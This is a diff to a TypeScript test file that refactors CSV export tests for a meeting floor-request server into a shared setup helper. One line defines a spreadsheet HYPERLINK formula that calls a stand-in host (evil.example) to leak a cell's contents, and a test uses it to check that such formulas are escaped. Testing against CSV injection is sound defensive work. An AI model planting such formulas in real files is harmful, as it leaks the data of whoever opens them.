@@ -14,21 +14,27 @@ afterEach(async () => {
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';
 
+/** A meeting with its floor open, and a phone that has asked for it for `delegation`. */
+async function askedFromThePhone(deviceKey: string, delegation: string): Promise<TestServer> {
+  const started = await startServer();
+  const moderator = await started.moderator();
+  for (const command of [
+    { type: 'session.start' },
+    { type: 'segment.end' },
+    { type: 'floor.open' },
+  ]) {
+    expect(await moderator.command(command)).toMatchObject({ ok: true });
+  }
+  const phone = await started.connect({ deviceKey });
+  expect(
+    await phone.command({ type: 'floor.request', delegation, kind: 'statement' }),
+  ).toMatchObject({ ok: true });
+  return started;
+}
+
 describe('the requests CSV', () => {
   it('writes a formula typed on a phone as text, behind a single quote', async () => {
-    server = await startServer();
-    const moderator = await server.moderator();
-    for (const command of [
-      { type: 'session.start' },
-      { type: 'segment.end' },
-      { type: 'floor.open' },
-    ]) {
-      expect(await moderator.command(command)).toMatchObject({ ok: true });
-    }
-    const phone = await server.connect({ deviceKey: 'phone-of-mallory-0123456789abcdef' });
-    expect(
-      await phone.command({ type: 'floor.request', delegation: HYPERLINK, kind: 'statement' }),
-    ).toMatchObject({ ok: true });
+    server = await askedFromThePhone('phone-of-mallory-0123456789abcdef', HYPERLINK);
 
     const res = await server.http(
       'GET',
@@ -46,23 +52,7 @@ describe('the requests CSV', () => {
 
 describe('the record as CSV', () => {
   it('writes every table, with semicolons when asked, local times named by their zone, and a byte order mark', async () => {
-    server = await startServer();
-    const moderator = await server.moderator();
-    for (const command of [
-      { type: 'session.start' },
-      { type: 'segment.end' },
-      { type: 'floor.open' },
-    ]) {
-      expect(await moderator.command(command)).toMatchObject({ ok: true });
-    }
-    const phone = await server.connect({ deviceKey: 'phone-of-abidjan-0123456789abcdef' });
-    expect(
-      await phone.command({
-        type: 'floor.request',
-        delegation: 'Côte d’Ivoire; Ghana',
-        kind: 'statement',
-      }),
-    ).toMatchObject({ ok: true });
+    server = await askedFromThePhone('phone-of-abidjan-0123456789abcdef', 'Côte d’Ivoire; Ghana');
 
     for (const table of ['turns', 'requests', 'segments']) {
       const res = await fetch(
